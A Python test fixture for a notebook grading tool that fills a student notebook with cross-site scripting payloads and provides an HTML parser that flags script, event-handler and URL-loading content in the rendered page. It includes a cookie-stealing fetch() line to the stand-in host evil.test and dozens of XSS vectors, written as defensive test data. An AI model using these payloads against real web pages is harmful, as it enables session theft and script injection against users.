"""A graded notebook with an attack in every place that a student can write to, and what looks for them in a page."""

import base64
import json
import re
import struct
import warnings
import zlib
from html.parser import HTMLParser

from utils.grading.outputs import check_outputs, is_png

LESSON, STUDENT, NOTEBOOK = "01_small", "ada", "small"
STEAL = "fetch('http://evil.test/'+document.cookie)"
# each ends in a word of its own, which a person must be able to read in the page
MARKDOWN = [
    f"<script>{STEAL}</script> word00",
    "<img src=x onerror=alert(1)> word01",
    "<IMG/SRC=x/ONERROR=alert(1)> word02",
    "<svg/onload=alert(1)><animate onbegin=alert(1)> word03",
    "<iframe src='http://evil.test/' srcdoc='<script>alert(1)</script>'></iframe> word04",
    "<style>@import url(http://evil.test/a.css); body { background: url(http://evil.test/b) }</style> word05",
    "<meta http-equiv=refresh content='0; url=http://evil.test/'> word06",
    "<link rel=stylesheet href=//evil.test/c.css><base href=http://evil.test/> word07",
    "<form action=http://evil.test/><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)> word08",
    "<div style='background: url(http://evil.test/d)' onmouseover='alert(1)'>word09",
    "<object data=http://evil.test/e></object><embed src=http://evil.test/f> word10",
    "<video src=http://evil.test/g autoplay onplay=alert(1)></video> word11",
    "<a href='javascript:alert(1)'>word12</a> <a href=' java\tscript:alert(1)'>word13</a>",
    "[word14](javascript:alert(1)) [word15](JaVaScRiPt:alert(1)) [word16](&#106;avascript:alert(1))",
    "[word17](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [word18](vbscript:x)",
    "[word19](%6Aavascript:x) <javascript:alert(1)//word42>",
    "[word20][bad] <javascript:alert(1)> [word21](\x01javascript:alert(1))\n\n[bad]: javascript:alert(1)",
    '[word22](http://evil.test/"onmouseover="alert(1)) [word23](https://fine.test/a?b=1&c=2 "t\\" onclick=\\"x")',
    '![word24](http://evil.test/pixel.png) ![word25](x" onerror="alert(1)) ![word26](attachment:h.svg)',
    "$\\href{javascript:alert(1)}{x}$ $\\style{background: url(http://evil.test/i)}{y}$ word27",
    "$\\text{<script>alert(1)</script>}$ $x < y <img src=x onerror=alert(1)>$ word28",
    "```mermaid\n</pre><script>alert(1)</script> word29\n```",
    '```html\n<script>alert(1)</script> word30\n```\n\n```" onload=alert(1) x="\nword31\n```',
    "`</code><script>alert(1)</script>` word32 <!-- <img src=x onerror=alert(1)> --!> word33",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> word34 |",
    "<details open ontoggle=alert(1)>\n\n**word35** <b onclick=alert(1)>\n\n</details>",
    "# <script>alert(1)</script> word36\n\n- <xss onpointerenter=alert(1)> word37",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math> word38 </div></body></html> word39",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'> word40",
    "<a title='unclosed word41",
]
CODE = "def double(x):  # word50 </pre></code></script><script>alert(1)</script>\n    '<img src=x onerror=alert(1)>'"
PRINTED = "word60 <script>alert(1)</script></pre><img src=x onerror=alert(1)>\n"
PRINTED += "\x1b[31mword61\x1b[0m \x1b]8;;javascript:alert(1)\x07word62\x1b]8;;\x07 \x9b2J\u202eword63\n"
RAISED = "word64 </pre><script>alert(1)</script> <iframe src=http://evil.test/>"
POINTS = "<strong>6 of 6 points</strong>\n<img src=x onerror=alert(1)>"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"


def png(width=2, height=2):
    """A PNG picture, or what claims to be one of that size."""

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    pixels = zlib.compress(b"\x00\x00\x00" * 2)
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def forged():
    """Outputs that no cell of ours has, in the form that a kernel would send them."""

    def of(kind, data, metadata=None):
        return {"output_type": "display_data", "data": {kind: data}, "metadata": metadata or {}}

    text = f"<script>{STEAL}</script><img src=x onerror=alert(1)>"
    return [
        of("text/html", text),
        of("text/html", text, {"text/html": {"isolated": True}}),
        of("application/javascript", "alert(1)"),
        of("image/svg+xml", SVG),
        of("text/markdown", "[x](javascript:alert(1)) <img src=x onerror=alert(1)>"),
        of("text/latex", "$\\href{javascript:alert(1)}{x}$ <script>alert(1)</script>"),
        of("text/vnd.mermaid", "</pre><script>alert(1)</script>"),
        of("application/vnd.jupyter.widget-view+json", {"model_id": "</script><script>alert(1)</script>"}),
        of("image/png", '"><script>alert(1)</script>'),
        of("image/jpeg", 'x" onerror="alert(1)'),
        {
            "output_type": "display_data",
            "data": {"image/png": base64.b64encode(png()).decode()},
            "metadata": {"image/png": {"width": "1 onload=alert(1)", "alt": '" onload="alert(1)'}},
        },
        {"output_type": "stream", "name": "stdout", "text": PRINTED},
        {"output_type": "error", "ename": "<script>E</script>", "evalue": RAISED, "traceback": [f"\x1b[31m{RAISED}"]},
        {
            "output_type": "execute_result",
            "execution_count": None,
            "metadata": {},
            "data": {"text/plain": "word65 <script>alert(1)</script>", "text/html": POINTS},
        },
    ]  # fmt: skip


def graded(kind, name, **flags):
    about = {"grade": False, "solution": False, "locked": False, "task": False, "schema_version": 3}
    return {"nbgrader": about | {"grade_id": name, "cell_type": kind} | flags}


def notebook(mild=False):
    """The notebook as a dict of nbformat 4: one exercise, one written answer, notes and cells of the student's own.

    mild: the same cells with nothing in them.
    """
    markdown, code, outputs = (["Because."] * len(MARKDOWN), "1", []) if mild else (MARKDOWN, CODE, forged())
    tags = [] if mild else ['" onclick="alert(1)']
    files = {"h.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()}}
    verdict = check_outputs(4, 6, "double: not right yet. y_pred[0]: got <b>3</b>", [("a", 3, 3), ("b", 1, 3)])
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": "# A small lesson\n\nProse: $a^{<t>} = \\tanh(W a)$."},
        {"cell_type": "markdown", "metadata": {}, "source": "## Exercise · `double`\n\nWrite it."},
        {"cell_type": "code", "metadata": graded("code", "double", solution=True), "source": code, "outputs": outputs},
        {"cell_type": "code", "metadata": graded("code", "double-check", grade=True, locked=True, points=6),
         "source": "check(double)", "outputs": verdict},
        {"cell_type": "markdown", "metadata": {}, "source": "## Written question\n\nWhy?"},
        {"cell_type": "markdown", "metadata": graded("markdown", "why", grade=True, solution=True, points=4),
         "source": "\n\n".join(markdown), "attachments": files},
        *({"cell_type": "markdown", "metadata": {}, "source": text, "attachments": files} for text in markdown),
        {"cell_type": "code", "metadata": {"tags": tags}, "source": code, "outputs": outputs},
        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": markdown[0]},
    ]  # fmt: skip
    for number, cell in enumerate(cells):
        cell["id"] = f"cell-{number}"
        if cell["cell_type"] == "code":
            cell["execution_count"] = None
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2, "version_minor": 0}}
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {"widgets": widgets, "title": markdown[0]}, "cells": cells}


def course(home, extra="", mild=False):
    """A course in `home` with the graded notebook; its settings end with `extra`."""
    place = home / "autograded" / STUDENT / LESSON
    place.mkdir(parents=True)
    (place / f"{NOTEBOOK}.ipynb").write_text(json.dumps(notebook(mild)), encoding="utf-8")
    settings = f"c = get_config()\nc.CourseDirectory.root = {str(home)!r}\n{extra}\n"
    (home / "nbgrader_config.py").write_text(settings, encoding="utf-8")


def gradebook(path):
    """A gradebook that knows the student and the points of that notebook, one answer of which a person has to read."""
    from nbgrader.api import Gradebook

    where = (NOTEBOOK, LESSON, STUDENT)
    with warnings.catch_warnings(), Gradebook(f"sqlite:///{path}") as book:
        warnings.simplefilter("ignore")  # nbgrader's use of its database
        book.add_assignment(LESSON)
        book.add_notebook(NOTEBOOK, LESSON)
        book.add_grade_cell("double-check", NOTEBOOK, LESSON, max_score=6, cell_type="code")
        book.add_grade_cell("why", NOTEBOOK, LESSON, max_score=4, cell_type="markdown")
        book.add_solution_cell("double", NOTEBOOK, LESSON)
        book.add_solution_cell("why", NOTEBOOK, LESSON)
        book.add_student(STUDENT)
        book.add_submission(LESSON, STUDENT)
        grade = book.find_grade("double-check", *where)
        grade.auto_score, grade.needs_manual_grade = 4, False
        book.find_grade("why", *where).needs_manual_grade = True
        book.find_comment("double", *where).manual_comment = "Nearly: look at $x^2 < y$. word70"
        book.db.commit()


class Finder(HTMLParser):
    """Reads a page: `found` lists what could run or load something, `text` is what a person reads."""

    GOOD = set(
        "html head title meta style body main h1 h2 h3 h4 h5 h6 p div span pre code em strong del ul ol li table "
        "caption thead tbody tr th td blockquote hr br a img details summary math mrow mi mn mo ms mtext mspace mfrac "
        "msqrt mroot mstyle msub msup msubsup munder mover munderover mtable mtr mtd mpadded mphantom".split()
    )
    URLS = set("href src action formaction data poster background cite ping srcset srcdoc xlink:href manifest".split())

    def __init__(self, page):
        super().__init__()
        self.found, self.texts, self.within = [], [], ""
        self.feed(page)
        self.close()
        self.text = " ".join(self.texts)

    def handle_starttag(self, tag, attributes):
        self.within = tag
        if tag not in self.GOOD:
            self.found.append(f"<{tag}>")
        for name, value in attributes:
            value = value or ""
            wrong = name.startswith("on") or name == "style"
            wrong |= tag == "meta" and name == "http-equiv" and value != "Content-Security-Policy"
            wrong |= name in self.URLS and not self.harmless(tag, name, value)
            if wrong:
                self.found.append(f'<{tag} {name}="{value[:60]}">')

    def harmless(self, tag, name, value):
        if (tag, name) == ("a", "href"):
            return re.match(r"#|https?://|mailto:", value) is not None
        if (tag, name) != ("img", "src") or not re.fullmatch(
            r"data:image/png;base64,([A-Za-z0-9+/]{4})*[\w+/=]{4}", value
        ):
            return False
        return is_png(base64.b64decode(value.partition(",")[2]))

    def handle_data(self, data):
        if self.within == "style":
            if "@import" in data or "url(" in data:
                self.found.append("style that loads")
        else:
            self.texts.append(data)

    def handle_endtag(self, tag):
        self.within = ""
